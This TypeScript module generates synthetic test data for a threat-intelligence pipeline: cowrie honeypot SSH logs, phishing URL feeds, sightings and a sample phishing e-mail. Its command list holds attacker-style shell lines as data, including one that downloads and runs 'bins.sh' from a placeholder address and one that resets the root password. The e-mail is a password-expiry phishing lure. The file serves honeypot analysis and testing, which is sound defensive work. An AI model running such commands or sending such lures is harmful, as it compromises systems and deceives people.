/**
 * Realistic sample logs for the demo, the benchmarks and integration tests: cowrie honeypot sessions, phishing
 * feeds, sightings and an e-mail, with a configurable share of bad records (not JSON, truncated, wrong types,
 * unparsable timestamps). Deterministic for a given seed, so runs and tests are reproducible.
 */

/** mulberry32: a tiny, fast, seedable PRNG (quality is ample for test data; not for anything secret). */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const USERNAMES = ['root', 'admin', 'ubuntu', 'pi', 'oracle', 'test', 'user', 'git', 'postgres', 'support'];
const PASSWORDS = ['123456', 'admin', 'password', 'root', '1234', 'raspberry', 'qwerty', 'P@ssw0rd', 'ubnt', ''];
const COMMANDS = [
  'uname -a',
  'cat /proc/cpuinfo | grep name | wc -l',
  'cd /tmp; wget http://198.51.100.23/bins.sh; chmod 777 bins.sh; sh bins.sh',
  'free -m',
  'ls -lh $(which ls)',
  'crontab -l',
  'echo "root:Xy7#kq2" | chpasswd',
  'nproc',
  'w',
  'history -c',
];
const CLIENTS = ['SSH-2.0-Go', 'SSH-2.0-libssh2_1.8.0', 'SSH-2.0-PuTTY_Release_0.76', 'SSH-2.0-OpenSSH_7.4'];
const SENSORS = ['honeypot-eu-1', 'honeypot-us-2', 'honeypot-ap-3'];
const DOWNLOAD_HOSTS = ['198.51.100.23', 'malware.example.net', '203.0.113.77'];
const PHISH_HOSTS = ['login-secure.example.com', 'paypa1-verify.example.net', 'office365-auth.example.org'];

function pick<T>(rnd: () => number, xs: readonly T[]): T {
  return xs[Math.floor(rnd() * xs.length)] as T;
}

function ipv4(rnd: () => number): string {
  // Avoid 0.x, 10.x, 127.x and multicast so addresses look like internet sources.
  const first = pick(rnd, [23, 31, 45, 61, 77, 89, 103, 112, 138, 141, 157, 171, 185, 193, 202, 218]);
  return `${first}.${Math.floor(rnd() * 256)}.${Math.floor(rnd() * 256)}.${1 + Math.floor(rnd() * 254)}`;
}

function hex(rnd: () => number, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += Math.floor(rnd() * 16).toString(16);
  return s;
}

/** ISO-8601 with microseconds and `Z`, as cowrie writes it. */
function cowrieTime(micros: number): string {
  const ms = Math.floor(micros / 1000);
  const frac = String(micros % 1_000_000).padStart(6, '0');
  return `${new Date(ms).toISOString().slice(0, 19)}.${frac}Z`;
}

export interface CowrieOptions {
  /** Number of lines to produce (approximately whole sessions; cut at exactly this many). */
  lines: number;
  seed?: number;
  /** Share of lines replaced by bad records, 0–1. @default 0 */
  badShare?: number;
  /** First event time. @default 2026-11-01T00:00:00Z */
  start?: Date;
}

/** The kinds of bad lines the generator injects, with what the pipeline is expected to do with them. */
export const BAD_COWRIE_KINDS = ['not_json', 'truncated', 'timestamp_unparsable', 'username_list'] as const;

function badLine(rnd: () => number, good: Record<string, unknown>): string {
  switch (pick(rnd, BAD_COWRIE_KINDS)) {
    case 'not_json':
      return `<<binary garbage ${hex(rnd, 12)}>>`;
    case 'truncated':
      return JSON.stringify(good).slice(0, 40);
    case 'timestamp_unparsable':
      return JSON.stringify({
        ...good,
        eventid: 'cowrie.login.failed',
        username: 'root',
        password: 'x',
        timestamp: '31/12/2026 10:00',
      });
    default:
      return JSON.stringify({ ...good, eventid: 'cowrie.login.failed', username: ['root', 'admin'], password: 'x' });
  }
}

/** Addresses that come back session after session, as scanners and botnets do. */
const REPEAT_ATTACKERS = 40;
/** Share of sessions that come from one of them; the rest come from an address seen once. */
const REPEAT_SHARE = 0.7;

/** Cowrie JSON lines (one event a line), grouped in sessions that cover every eventid family the filter handles. */
export function* cowrieLines(opts: CowrieOptions): Generator<string> {
  const rnd = prng(opts.seed ?? 1);
  let micros = (opts.start ?? new Date('2026-11-01T00:00:00Z')).getTime() * 1000;
  let emitted = 0;
  const bad = opts.badShare ?? 0;
  const regulars = Array.from({ length: REPEAT_ATTACKERS }, () => ipv4(rnd));
  while (emitted < opts.lines) {
    const session = hex(rnd, 12);
    // A few regulars make most of the noise (squaring skews the pick toward the first ones), so that "top
    // attackers" has an answer with a clear order rather than a tie of one-session addresses.
    const src = rnd() < REPEAT_SHARE ? (regulars[Math.floor(rnd() ** 2 * REPEAT_ATTACKERS)] as string) : ipv4(rnd);
    const sensor = pick(rnd, SENSORS);
    const base = { session, sensor, src_ip: src };
    const events: Record<string, unknown>[] = [];
    const tick = () => {
      micros += 1 + Math.floor(rnd() * 3_000_000);
      return cowrieTime(micros);
    };
    events.push({
      ...base,
      eventid: 'cowrie.session.connect',
      src_port: 1024 + Math.floor(rnd() * 60000),
      dst_ip: '10.0.0.5',
      dst_port: 22,
      protocol: 'ssh',
      message: `New connection: ${src}`,
    });
    events.push({
      ...base,
      eventid: 'cowrie.client.version',
      version: pick(rnd, CLIENTS),
      message: 'Remote SSH version',
    });
    const attempts = 1 + Math.floor(rnd() * 4);
    for (let i = 0; i < attempts; i++) {
      events.push({
        ...base,
        eventid: 'cowrie.login.failed',
        username: pick(rnd, USERNAMES),
        password: pick(rnd, PASSWORDS),
        message: 'login attempt failed',
      });
    }
    if (rnd() < 0.6) {
      events.push({
        ...base,
        eventid: 'cowrie.login.success',
        username: 'root',
        password: pick(rnd, PASSWORDS),
        message: 'login attempt succeeded',
      });
      const n = Math.floor(rnd() * 5);
      for (let i = 0; i < n; i++)
        events.push({ ...base, eventid: 'cowrie.command.input', input: pick(rnd, COMMANDS), message: 'CMD' });
      if (rnd() < 0.3) {
        const url = `http://${pick(rnd, DOWNLOAD_HOSTS)}/${pick(rnd, ['bins.sh', 'x86', 'mips', 'update.tar.gz'])}`;
        events.push({
          ...base,
          eventid: 'cowrie.session.file_download',
          url,
          shasum: hex(rnd, 64),
          outfile: `var/lib/cowrie/downloads/${hex(rnd, 64)}`,
          message: 'Downloaded URL',
        });
      }
      if (rnd() < 0.1) {
        const shasum = hex(rnd, 64);
        events.push({
          ...base,
          eventid: 'cowrie.session.file_upload',
          filename: 'payload.bin',
          shasum,
          outfile: `var/lib/cowrie/downloads/${shasum}`,
          message: 'SFTP Uploaded file "payload.bin"',
        });
      }
      if (rnd() < 0.15) {
        events.push({
          ...base,
          eventid: 'cowrie.direct-tcpip.request',
          dst_ip: 'ya.ru',
          dst_port: 80,
          src_port: 5556,
          message: 'direct-tcp connection request',
        });
        events.push({
          ...base,
          eventid: 'cowrie.direct-tcpip.data',
          dst_ip: 'ya.ru',
          dst_port: 80,
          data: "b'GET / HTTP/1.1\\r\\nHost: ya.ru\\r\\n\\r\\n'",
          message: 'direct-tcp forward',
        });
      }
    }
    events.push({
      ...base,
      eventid: 'cowrie.session.closed',
      duration: Math.round(rnd() * 300_000) / 1000,
      message: 'Connection lost',
    });
    events.push({
      ...base,
      eventid: 'cowrie.log.closed',
      ttylog: `var/lib/cowrie/tty/${hex(rnd, 64)}`,
      size: Math.floor(rnd() * 5000),
      message: 'Closing TTY Log',
    });
    for (const e of events) {
      if (emitted >= opts.lines) return;
      const line = { ...e, timestamp: tick() };
      emitted++;
      yield bad > 0 && rnd() < bad ? badLine(rnd, line) : JSON.stringify(line);
    }
  }
}

/** An OpenPhish-style feed: one URL a line. */
export function phishingFeed(opts: { urls: number; seed?: number }): string {
  const rnd = prng(opts.seed ?? 2);
  const lines: string[] = [];
  for (let i = 0; i < opts.urls; i++) lines.push(`https://${pick(rnd, PHISH_HOSTS)}/${hex(rnd, 8)}/login.php`);
  return `${lines.join('\n')}\n`;
}

/** Sightings: one JSON object a line, each key an attribute seen at `timestamp`. */
export function* sightingLines(opts: { lines: number; seed?: number; start?: Date }): Generator<string> {
  const rnd = prng(opts.seed ?? 3);
  const t0 = (opts.start ?? new Date('2026-11-01T00:00:00Z')).getTime() / 1000;
  for (let i = 0; i < opts.lines; i++) {
    const rec: Record<string, unknown> = { ipv4: ipv4(rnd), timestamp: t0 + i * 60 + Math.round(rnd() * 1e6) / 1e6 };
    if (rnd() < 0.5) rec.url = `https://${pick(rnd, PHISH_HOSTS)}/${hex(rnd, 6)}`;
    yield JSON.stringify(rec);
  }
}

/** A phishing e-mail as an RFC 822 message (one upload is one record). */
export function phishingEmail(opts: { seed?: number; date?: Date } = {}): string {
  const rnd = prng(opts.seed ?? 4);
  const date = (opts.date ?? new Date('2026-11-01T08:30:00Z')).toUTCString().replace('GMT', '+0000');
  return [
    'Return-Path: <bounce@mailer.example.net>',
    `From: "IT Service Desk" <helpdesk@${pick(rnd, PHISH_HOSTS)}>`,
    'To: Jordan Smith <jordan.smith@example.com>',
    'Reply-To: helpdesk-reply@example.net',
    'Subject: Action required: your mailbox password expires today',
    `Date: ${date}`,
    `Message-ID: <${hex(rnd, 16)}@mailer.example.net>`,
    `X-Mailgun-Sending-Ip: ${ipv4(rnd)}`,
    'MIME-Version: 1.0',
    'Content-Type: text/plain; charset="utf-8"',
    '',
    'Dear user,',
    '',
    `Your password expires today. Keep it at https://${pick(rnd, PHISH_HOSTS)}/${hex(rnd, 8)}/keep-password`,
    '',
    'IT Service Desk',
    '',
  ].join('\n');
}
